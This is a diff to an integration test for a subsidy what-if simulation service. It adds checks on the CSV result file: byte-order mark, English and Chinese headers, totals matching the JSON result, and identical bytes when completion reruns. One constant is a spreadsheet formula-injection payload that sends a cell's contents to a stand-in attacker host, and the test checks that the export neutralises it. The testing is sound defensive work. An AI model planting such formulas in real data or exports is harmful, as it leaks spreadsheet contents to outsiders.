@@ -2,14 +2,21 @@
  * What-if simulations (SPEC §12) against DynamoDB Local and the real simulation queue: stored
  * decisions, made by the real write path, are judged again under a draft with the history each
  * was decided with; the result per programme; a bad draft is a 400 naming the parameter; nothing
- * stored changes; pages are counted once even when messages are received twice.
+ * stored changes; pages are counted once even when messages are received twice. The result as
+ * CSV, downloaded through its URL from the local S3 server: byte-order mark, headers in the
+ * language the simulation was asked in, a hostile organisation name neutralised, the figures the
+ * JSON result's; a completion run again writes the same bytes.
  */
-import { afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { UpdateCommand } from '@aws-sdk/lib-dynamodb';
+import { parse } from 'csv-parse/sync';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { clock } from '../../functions/commons/runtime/clock.js';
 import { SIMULATION_PAGE_SIZE } from '../../functions/commons/simulations/model.js';
+import { completeIfSettled } from '../../functions/commons/simulations/completion.js';
 import { simulating } from '../../functions/commons/simulations/simulate.js';
+import { simulationKey } from '../../functions/commons/store/keys.js';
 import { handler as simulationWorker } from '../../functions/simulation-worker/handler.js';
-import { localAws, publishedEvents, relayOutbox } from '../support/emulators/env.js';
+import { localAws, localS3, publishedEvents, relayOutbox } from '../support/emulators/env.js';
 import { handler as adminApi } from '../../functions/admin-api/handler.js';
 import { admin, applicant, caller } from '../support/http-events.js';
 import { tableItems } from '../support/local-api.js';
@@ -33,7 +40,10 @@ afterEach(() => {
   simulating.pageSize = SIMULATION_PAGE_SIZE;
 });
 
-const start = (payload: unknown, as = admin()) => call.start('POST /v1/admin/simulations', { as, body: payload });
+const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
+
+const start = (payload: unknown, as = admin(), language = 'en') =>
+  call.start('POST /v1/admin/simulations', { as, body: payload, headers: { 'accept-language': language } });
 const read = (id: string, as = admin()) => call.get('GET /v1/admin/simulations/{id}', { as, path: { id } });
 const drain = (options: { acknowledge?: (records: unknown[]) => boolean } = {}) =>
   drainQueue({ sqs, queueUrl: simulationQueueUrl, handler: simulationWorker, concurrency: 3, ...options });
@@ -42,8 +52,8 @@ const drain = (options: { acknowledge?: (records: unknown[]) => boolean } = {}) 
 const storedRecords = async () =>
   (await tableItems(doc, tableName)).filter((item) => !String(item.pk).startsWith('SIMULATION#'));
 
-async function simulate(payload: Record<string, unknown>) {
-  const started = await start(payload);
+async function simulate(payload: Record<string, unknown>, language = 'en') {
+  const started = await start(payload, admin(), language);
   expect(started.status, JSON.stringify(started.body)).toBe(202);
   expect(started.headers?.location).toBe(`/v1/admin/simulations/${started.body.simulationId}`);
   await drain();
@@ -57,7 +67,19 @@ const at = (instant: string) => () => new Date(instant);
 const platforms = { small: newApplicantId(), large: newApplicantId(), twice: newApplicantId(), rnd: newApplicantId() };
 const ids: Record<string, string> = {};
 
+/** The result file as downloaded through the simulation's URL: its bytes and its rows. */
+async function resultFile(simulation: { download?: { url: string; expiresAt: string } }) {
+  expect(simulation.download, 'a completed simulation has a download').toBeDefined();
+  const response = await fetch(simulation.download!.url);
+  expect(response.status).toBe(200);
+  const bytes = Buffer.from(await response.arrayBuffer());
+  return { response, bytes, rows: parse(bytes, { bom: true }) as string[][] };
+}
+
+afterAll(async () => (await localS3()).stop());
+
 beforeAll(async () => {
+  await localS3();
   for (const platform of Object.values(platforms)) await certify(platform);
   // Earlier R&D awards leave 500,000.00 of the platform's 30,000,000.00 cap.
   await seedAward(platforms.rnd, 'OSP_RND', '29500000.00', { awardedAt: '2021-02-01T00:00:00.000Z' });
@@ -66,7 +88,11 @@ beforeAll(async () => {
     clock.now = at(instant);
     ids[name] = (await submitAndEvaluate(applicantId, payload)).applicationId;
   };
-  await decide('small', platforms.small, operating('2000000.00'), '2022-03-10T02:00:00.000Z');
+  const hostile = {
+    ...operating('2000000.00'),
+    organisation: { ...body('OSP_OPERATING').organisation, name: HOSTILE_NAME },
+  };
+  await decide('small', platforms.small, hostile, '2022-03-10T02:00:00.000Z');
   await decide('large', platforms.large, operating('9000000.00'), '2022-03-11T02:00:00.000Z');
   // The second claim of the year had 400,000.00 of the yearly cap left when it was decided.
   await decide('first', platforms.twice, operating('6000000.00'), '2022-03-12T02:00:00.000Z');
@@ -201,5 +227,131 @@ describe('a what-if simulation', () => {
     expect((await read('00000000-0000-4000-8000-000000000000')).status).toBe(404);
     expect((await read('not-a-uuid')).status).toBe(404);
     expect((await read('00000000-0000-4000-8000-000000000000', applicant('someone'))).status).toBe(403);
+  });
+});
+
+describe('the result as CSV', () => {
+  const window = { submittedFrom: '2022-03-10', submittedTo: '2022-03-14' };
+  const draft = { overrides: { ospOperatingRate: '15%' }, programmes: ['OSP_OPERATING', 'OSP_RND'], ...window };
+
+  it('is downloadable through its URL: byte-order mark, the JSON result line by line, a hostile name neutralised; a completion run again writes the same bytes', async () => {
+    const simulation = await simulate(draft);
+    const { response, bytes, rows } = await resultFile(simulation);
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(response.headers.get('content-disposition')).toBe(
+      `attachment; filename="simulation-${simulation.simulationId}.csv"`,
+    );
+    const [header, ...lines] = rows;
+    expect(header).toEqual([
+      'Programme',
+      'Line',
+      'Cases',
+      'Changed outcomes',
+      'Changed amounts',
+      'Application',
+      'Applicant',
+      'Organisation',
+      'Unified Social Credit Code',
+      'Outcome decided',
+      'Outcome under the draft',
+      'Amount decided (yuan)',
+      'Amount under the draft (yuan)',
+      'Difference (yuan)',
+    ]);
+    const column = (name: string) => header!.indexOf(name);
+    const totals = lines.filter((line) => line[column('Line')] === 'Total');
+    expect(totals.map((line) => line[column('Programme')])).toEqual([
+      'Open-source platform operating-cost subsidy',
+      'Open-source platform R&D subsidy',
+    ]);
+    simulation.result.forEach((entry: Record<string, any>, i: number) => {
+      const line = totals[i]!;
+      expect(
+        ['Cases', 'Changed outcomes', 'Changed amounts'].map((name) => Number(line[column(name)])),
+        entry.programme,
+      ).toEqual([entry.cases, entry.changedOutcomes, entry.changedAmounts]);
+      expect(
+        ['Amount decided (yuan)', 'Amount under the draft (yuan)', 'Difference (yuan)'].map(
+          (name) => line[column(name)],
+        ),
+        entry.programme,
+      ).toEqual([entry.totalBefore, entry.totalAfter, entry.difference]);
+    });
+    // Each programme's total line, then its largest changes in the result's order.
+    const operating = resultOf(simulation, 'OSP_OPERATING');
+    const changes = lines.slice(1, 1 + operating.largestChanges.length);
+    expect(lines).toHaveLength(simulation.result.length + operating.largestChanges.length);
+    expect(
+      changes.map((line) =>
+        [
+          'Line',
+          'Application',
+          'Applicant',
+          'Outcome decided',
+          'Outcome under the draft',
+          'Amount decided (yuan)',
+          'Amount under the draft (yuan)',
+          'Difference (yuan)',
+        ].map((name) => line[column(name)]),
+      ),
+    ).toEqual(
+      operating.largestChanges.map((change: Record<string, string>) => [
+        'Change',
+        change.applicationId,
+        change.applicantId,
+        'Eligible',
+        'Eligible',
+        change.amountBefore,
+        change.amountAfter,
+        change.difference,
+      ]),
+    );
+    const organisations = changes.map((line) => line[column('Organisation')]);
+    expect(organisations).toContain(`'${HOSTILE_NAME}`);
+    expect(organisations).not.toContain(HOSTILE_NAME);
+
+    // Redelivered: the completion runs again (as after a crash between the file and the record).
+    await doc.send(
+      new UpdateCommand({
+        TableName: tableName,
+        Key: simulationKey(simulation.simulationId),
+        UpdateExpression: 'SET #status = :running',
+        ExpressionAttributeNames: { '#status': 'status' },
+        ExpressionAttributeValues: { ':running': 'RUNNING' },
+      }),
+    );
+    await completeIfSettled(simulation.simulationId);
+    const again = (await read(simulation.simulationId)).body;
+    expect(again.status).toBe('COMPLETED');
+    expect((await resultFile(again)).bytes.equals(bytes)).toBe(true);
+  });
+
+  it('has its headers and words in Chinese when the simulation was asked for in Chinese', async () => {
+    const simulation = await simulate(draft, 'zh-CN');
+    const [header, ...lines] = (await resultFile(simulation)).rows;
+    expect(header).toEqual([
+      '支持项目',
+      '行',
+      '测算件数',
+      '结果改变件数',
+      '金额改变件数',
+      '申报编号',
+      '申报单位账号',
+      '申报单位',
+      '统一社会信用代码',
+      '原决定结果',
+      '按草案测算结果',
+      '原决定金额（元）',
+      '按草案测算金额（元）',
+      '差额（元）',
+    ]);
+    expect(lines[0]!.slice(0, 2)).toEqual(['深度学习开源平台运营费用补贴', '合计']);
+    expect(lines[0]!.slice(-3)).toEqual([
+      resultOf(simulation, 'OSP_OPERATING').totalBefore,
+      resultOf(simulation, 'OSP_OPERATING').totalAfter,
+      resultOf(simulation, 'OSP_OPERATING').difference,
+    ]);
+    expect(lines[1]!.slice(0, 2)).toEqual(['深度学习开源平台运营费用补贴', '变化']);
+    expect(lines[1]!.slice(9, 11)).toEqual(['符合条件', '符合条件']);
   });
 });
